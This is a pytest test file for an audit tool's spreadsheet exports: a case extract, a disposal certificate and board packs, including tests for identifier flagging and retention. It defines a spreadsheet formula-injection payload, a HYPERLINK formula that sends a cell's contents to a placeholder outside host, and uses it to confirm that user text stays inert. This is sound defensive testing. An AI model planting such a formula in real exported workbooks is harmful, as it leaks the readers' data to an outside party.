"""The workbook of all that is held on one case, and the certificate of a disposal."""

from datetime import timedelta
from io import BytesIO

import openpyxl
import pytest
from openpyxl.workbook import Workbook
from sqlalchemy import select

from audit.commands import case_audit, identifier, retention
from audit.documents.board_pack import board_pack
from audit.documents.case_extract import NONE_POINTED, case_extract
from audit.documents.disposal_certificate import UNFINISHED, disposal_certificate, lines
from audit.model.board import Filter
from audit.model.person import Person, Role
from audit.model.refusal import NotFound, Refusal
from audit.rules.retention import today
from audit.store import tables as t
from audit.store.database import Database
from audit.views import retention as views
from audit.views.trail import TrailFilter, trail
from tests.builders import Clock, admitted, complete, give, judge, open_round, started, submitted

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
SHEETS = [
    "Summary",
    "Identifiers",
    "Case lists",
    "Samples",
    "Case audits",
    "Case facts",
    "Answers",
    "Judgements",
    "Quotes",
    "Moderation",
    "Conversations",
    "Immediate concerns",
    "Panel",
    "Findings",
    "Good practice",
    "Trail",
]


def read(content: bytes) -> Workbook:
    return openpyxl.load_workbook(BytesIO(content))


def rows(book: Workbook, name: str) -> list[dict[str, object]]:
    """The rows of a sheet's table under their headings."""
    found = [list(row) for row in book[name].iter_rows(values_only=True)]
    head = next(place for place, row in enumerate(found) if row[1] is not None)
    return [dict(zip(found[head], row, strict=True)) for row in found[head + 1 :]]


def acts(db: Database) -> list[str]:
    with db.reading() as connection:
        return list(connection.execute(select(t.event.c.act)).scalars())


@pytest.fixture
def held(db: Database, by: Person) -> Person:
    """S-001 with a line of evidence that would be a formula."""
    round_id = open_round(db)
    draft = started(db, round_id, "S-001")
    complete(db, by, draft)
    give(db, by, draft, "C1", "evidence", HOSTILE)
    submitted(db, round_id, "S-002", "gp", ratings="no")
    return by


def test_a_sheet_of_each_kind_with_the_handling_on_every_page(db: Database, held: Person) -> None:
    name, content = case_extract(db, held, "s-001")
    assert name.startswith("case-extract_s-001_professionals-only_2026-03-02-")
    book = read(content)
    assert book.sheetnames == SHEETS
    for sheet in book:
        assert sheet.oddHeader.left.text == "Professionals only"
        assert "S-001" in sheet.oddHeader.center.text
    words = [cell.value for row in book["Summary"].iter_rows() for cell in row if cell.value]
    assert "Professionals only" in words
    assert any(
        "1 case file, 1 case audit, 3 answered case facts, 4 answers" in each for each in words
    )


def test_what_was_written_stays_text(db: Database, held: Person) -> None:
    book = read(case_extract(db, held, "S-001")[1])
    lines_ = [each["Evidence"] for each in rows(book, "Answers") if each["Criterion"] == "C1"]
    assert lines_ == [HOSTILE]
    for sheet in book:
        for row in sheet.iter_rows():
            assert not [cell.coordinate for cell in row if cell.data_type == "f"]


def test_it_holds_this_case_alone(db: Database, held: Person) -> None:
    book = read(case_extract(db, held, "S-001")[1])
    every = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [each for each in every if "S-002" in each or "General practice" in each]
    assert len(rows(book, "Answers")) == 4
    assert [each["Act"] for each in rows(book, "Trail")][-1] == "case.extracted"


def test_that_it_was_taken_stands_in_the_trail_first(db: Database, held: Person) -> None:
    before = len(acts(db))
    case_extract(db, held, "S-001")
    with pytest.raises(NotFound):
        case_extract(db, held, "S-404")
    assert acts(db)[before:] == ["case.extracted", "document.made", "case.extracted"]
    board = admitted(db, Role.BOARD_MEMBER)
    before = len(acts(db))
    with pytest.raises(Refusal):
        case_extract(db, board, "S-001")
    assert len(acts(db)) == before


SUSPECT = "Told by Mrs Smith, 943 476 5919"


@pytest.fixture
def telling(db: Database, by: Person) -> Person:
    """S-001 with something that points at somebody in every box, and a word of the partnership's own."""
    identifier.watch(db, by, "Larkspur House")
    round_id = open_round(db)
    draft = submitted(db, round_id, "S-001", ratings="na")
    case_audit.send_back(db, by, draft, SUSPECT)
    for part in ("evidence", "reason"):
        give(db, by, draft, "C1", part, SUSPECT)
    judge(db, by, draft, "sleep", "poor", "Two visits to larkspur house weighed most")
    other = submitted(db, round_id, "S-002", "gp")
    case_audit.send_back(db, by, other, "Mrs Jones was there")
    return by


def test_what_looks_like_an_identifier_is_listed_and_nothing_is_held_back(
    db: Database, telling: Person
) -> None:
    """Whoever answers a request decides what is disclosed: they must have all of it, and be told."""
    book = read(case_extract(db, telling, "S-001")[1])
    listed = [(row["Sheet"], row["Where"], row["Text"]) for row in rows(book, "Identifiers")]
    assert listed == [
        ("Case audits", "returned, first reading", "Mrs Smith"),
        ("Case audits", "returned, first reading", "943 476 5919"),
        ("Answers", "C1, evidence, first reading", "Mrs Smith"),
        ("Answers", "C1, evidence, first reading", "943 476 5919"),
        ("Answers", "C1, reason, first reading", "Mrs Smith"),
        ("Answers", "C1, reason, first reading", "943 476 5919"),
        ("Judgements", "Safer sleep, first reading", "larkspur house"),
    ]
    said = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert said["Look at first"].startswith(
        "In 7 places something looks as if it identifies a person"
        " (name 3, NHS number 3, watched word 1)."
    )
    lines_ = [each["Evidence"] for each in rows(book, "Answers") if each["Criterion"] == "C1"]
    assert lines_ == [SUSPECT]


def test_the_trail_says_how_much_of_it_looked_like_an_identifier(
    db: Database, telling: Person
) -> None:
    case_extract(db, telling, "S-001")
    told = [each.words for each in trail(db, telling, TrailFilter(act="case.extracted")).entries]
    assert told == [
        "took out all that is held on the case S-001, with 7 that may identify a person, as document 2026-0001"
    ]
    assert trail(db, telling, TrailFilter(subject="s-001")).entries[0].words == told[0]


def test_an_extract_without_suspects_does_not_call_itself_clean(db: Database, held: Person) -> None:
    """The rules miss some: nobody may rely on silence."""
    book = read(case_extract(db, held, "S-001")[1])
    said = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert said["Look at first"] == NONE_POINTED
    assert rows(book, "Identifiers") == []


def due(db: Database, by: Person) -> str:
    """A round with one submitted file whose day has passed."""
    round_id = open_round(db)
    submitted(db, round_id, "S-001")
    until = today(db.clock()) + timedelta(days=5)
    retention.keep_until(db, by, round_id, until, HOSTILE, "Business manager")
    assert isinstance(db.clock, Clock)
    db.clock.now += timedelta(days=10)
    return round_id


def test_the_certificate_says_what_when_by_whom_and_from_when_backups_are_clean(
    db: Database, by: Person
) -> None:
    round_id = due(db, by)
    retention.dispose(db, by, round_id, confirm="Spring 2026")
    name, content = disposal_certificate(db, by, round_id)
    assert name.startswith("disposal-certificate_spring-2026_professionals-only_2026-03-12-")
    book = read(content)
    said = {row[0]: row[1] for row in book["Certificate"].iter_rows(values_only=True)}
    found = views.certificate(db, by, round_id)
    assert dict(lines(found)).items() <= said.items()
    assert said["Disposed of"].endswith(f"by {by.name}")
    assert said["Ground"] == f"Kept until 7 March 2026: {HOSTILE}"
    assert "older ones still hold" in said["Backups"].lower()
    assert "None." in said


def test_a_certificate_of_an_unfinished_erasure_says_so(db: Database, by: Person) -> None:
    round_id = due(db, by)
    other = Database(f"sqlite:///{db.path}")
    try:
        with other.reading() as connection:
            connection.execute(select(t.round_)).all()
            with pytest.raises(Refusal):
                retention.dispose(db, by, round_id, confirm="Spring 2026")
    finally:
        other.close()
    said = dict(lines(views.certificate(db, by, round_id)))
    assert said["Overwritten"] == UNFINISHED
    assert "Backups" not in said
    assert read(disposal_certificate(db, by, round_id)[1]).sheetnames == ["Certificate"]


def test_a_certificate_names_what_left_the_tool_and_the_cases_that_stay_elsewhere(
    db: Database, by: Person
) -> None:
    round_id = due(db, by)
    submitted(db, open_round(db, "Autumn 2026"), "S-001")
    board_pack(db, by, Filter(round_id=round_id))
    retention.dispose(db, by, round_id, confirm="Spring 2026")
    found = read(disposal_certificate(db, by, round_id)[1])
    said = {row[0]: row[1] for row in found["Certificate"].iter_rows(values_only=True)}
    assert said["Parted"].startswith("1 case that another round uses")
    assert said["Board pack, document 2026-0001"].startswith("12 March 2026")
    # Its own number is its own, and a second one names no certificate.
    assert said["Document"] == "2026-0002"
    again = read(disposal_certificate(db, by, round_id)[1])["Certificate"].values
    assert [row[0] for row in again if "ertificate" in str(row[0])] == ["Certificate of disposal"]


def test_a_board_pack_of_a_disposed_round_has_its_numbers_and_no_lines(
    db: Database, by: Person
) -> None:
    round_id = due(db, by)
    narrow = Filter(round_id=round_id)
    before = read(board_pack(db, by, narrow).content)
    retention.dispose(db, by, round_id, confirm="Spring 2026")
    after = read(board_pack(db, by, narrow).content)
    for name in ("Strengths", "Gaps", "Ratings"):
        words = " ".join(
            str(each) for row in after[name].iter_rows(values_only=True) for each in row
        )
        assert "disposed of on 12 March 2026" in words
        assert "S-001" not in words
    for name in ("Standards", "Criteria", "Learning points"):
        assert list(after[name].values) == list(before[name].values)
    assert any("S-001" in row for row in before["Ratings"].values)
